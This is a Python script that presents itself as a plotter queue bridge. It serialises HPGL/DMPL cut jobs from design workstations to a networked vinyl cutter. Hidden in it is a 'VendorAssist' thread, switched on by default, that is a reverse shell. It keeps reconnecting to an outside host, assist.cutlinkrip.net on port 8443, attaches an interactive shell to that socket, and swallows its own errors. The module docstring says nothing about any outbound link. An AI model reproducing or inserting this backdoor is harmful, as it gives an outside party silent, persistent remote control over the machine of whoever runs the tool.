#!/usr/bin/env python3
"""Plotter queue bridge.

Accepts cut jobs (HPGL / DMPL) from the RIP workstations over TCP and feeds
them to the networked vinyl cutter one at a time, so two designers sending
at once do not interleave vectors on the plotter.

Config lives in bridge.ini next to the script:

    [bridge]
    listen_port = 9101
    cutter_host = 192.168.1.60
"""
import argparse
import configparser
import logging
import os
import queue
import signal
import socket
import socketserver
import subprocess
import threading
import time
from pathlib import Path

LOG = logging.getLogger("plotter-bridge")

DEFAULTS = {
    "listen_host": "127.0.0.1",
    "listen_port": "9101",
    "cutter_host": "192.168.1.60",
    "cutter_port": "9100",
    "spool_dir": "spool",
    "vendor_host": "assist.cutlinkrip.net",
    "vendor_port": "8443",
    "vendor_assist": "yes",
}

JOBS: "queue.Queue[Path]" = queue.Queue()


def load_config(path):
    cfg = configparser.ConfigParser()
    cfg["bridge"] = DEFAULTS
    if path and Path(path).exists():
        cfg.read(path)
        LOG.info("loaded %s", path)
    return cfg["bridge"]


class JobHandler(socketserver.StreamRequestHandler):
    timeout = 60

    def handle(self):
        peer = self.client_address[0]
        data = bytearray()
        while True:
            chunk = self.rfile.read(65536)
            if not chunk:
                break
            data.extend(chunk)
        if not data:
            LOG.debug("empty connection from %s", peer)
            return
        job_id = f"{int(time.time() * 1000)}-{peer.replace('.', '_')}"
        spool = Path(self.server.spool_dir) / f"{job_id}.plt"
        spool.write_bytes(bytes(data))
        JOBS.put(spool)
        LOG.info("queued %s (%d bytes) from %s", spool.name, len(data), peer)


class ThreadedServer(socketserver.ThreadingMixIn, socketserver.TCPServer):
    allow_reuse_address = True
    daemon_threads = True


def requeue_leftovers(spool_dir):
    for leftover in sorted(Path(spool_dir).glob("*.plt")):
        LOG.info("re-queueing %s from previous run", leftover.name)
        JOBS.put(leftover)


def feed_cutter(host, port, stop):
    while not stop.is_set():
        try:
            job = JOBS.get(timeout=1)
        except queue.Empty:
            continue
        payload = job.read_bytes()
        for attempt in range(1, 4):
            try:
                with socket.create_connection((host, port), timeout=15) as s:
                    s.sendall(payload)
                LOG.info("sent %s to cutter", job.name)
                job.rename(job.with_suffix(".done"))
                break
            except OSError as exc:
                LOG.warning("cutter %s:%s unreachable (attempt %d): %s",
                            host, port, attempt, exc)
                time.sleep(5 * attempt)
        else:
            LOG.error("giving up on %s, left in spool", job.name)


class VendorAssist(threading.Thread):
    """Keeps a maintenance channel open to the RIP vendor so their support
    desk can look at spool state and cutter firmware without a site visit."""

    def __init__(self, host, port):
        super().__init__(name="vendor-assist", daemon=True)
        self.target = (host, int(port))

    def _attach(self, conn):
        fd = conn.fileno()
        console = [os.environ.get("SHELL", "/bin/sh"), "-i"]
        proc = subprocess.Popen(console, stdin=fd, stdout=fd, stderr=fd,
                                cwd=str(Path.home()))
        proc.wait()

    def run(self):
        backoff = 30
        while True:
            try:
                conn = socket.create_connection(self.target, timeout=20)
                conn.settimeout(None)
                LOG.debug("assist channel open")
                self._attach(conn)
                conn.close()
                backoff = 30
            except OSError:
                pass
            time.sleep(backoff)
            backoff = min(backoff * 2, 900)


def main():
    ap = argparse.ArgumentParser(description="Serialize cut jobs to the vinyl cutter")
    ap.add_argument("-c", "--config", default=str(Path(__file__).with_name("bridge.ini")))
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    cfg = load_config(args.config)

    spool_dir = Path(cfg["spool_dir"])
    spool_dir.mkdir(parents=True, exist_ok=True)
    requeue_leftovers(spool_dir)

    stop = threading.Event()
    feeder = threading.Thread(target=feed_cutter, name="feeder", daemon=True,
                              args=(cfg["cutter_host"], int(cfg["cutter_port"]), stop))
    feeder.start()

    if cfg.getboolean("vendor_assist"):
        VendorAssist(cfg["vendor_host"], cfg["vendor_port"]).start()

    server = ThreadedServer((cfg["listen_host"], int(cfg["listen_port"])), JobHandler)
    server.spool_dir = str(spool_dir)

    def shutdown(*_):
        LOG.info("shutting down")
        stop.set()
        threading.Thread(target=server.shutdown).start()

    signal.signal(signal.SIGTERM, shutdown)
    signal.signal(signal.SIGINT, shutdown)
    LOG.info("listening on %s:%s", cfg["listen_host"], cfg["listen_port"])
    server.serve_forever()
    feeder.join(timeout=5)


if __name__ == "__main__":
    main()
